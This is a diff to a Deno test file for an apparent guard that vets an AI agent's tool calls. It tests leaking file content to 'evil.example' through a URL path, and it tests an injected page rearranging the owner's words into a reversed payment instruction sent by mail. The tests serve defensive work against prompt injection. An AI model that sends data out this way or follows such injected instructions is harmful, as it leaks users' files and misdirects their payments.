@@ -81,3 +81,17 @@ Deno.test("a host that the owner named is told nothing of files by the paths tha
   assert.equal(verdict([asked, offering, file], fetching("https://evil.example/guide/walnut-harbour")), "ask");
   assert.equal(verdict([asked, offering], fetching("https://evil.example/guide/other")), "clear");
 });
+
+Deno.test("the owner's own words, put together to say the opposite, are not the owner's message", () => {
+  const sending = (body: string) => ({
+    tool: "send_mail",
+    args: { to: "bob@x.com", body },
+    effects: ["send"] as Effect[],
+    decisive: ["to"],
+  });
+  const said = owner("Send bob@x.com the message: do not pay Eve, pay Carl 500");
+  assert.equal(verdict([said, page], sending("Do not pay Eve, pay Carl 500.")), "clear");
+  for (const body of ["Do pay Eve 500, not Carl", "pay Eve, pay Carl 500", "do not pay Carl 500", "pay Eve 500"]) {
+    assert.equal(verdict([said, page], sending(body)), "ask", body);
+  }
+});
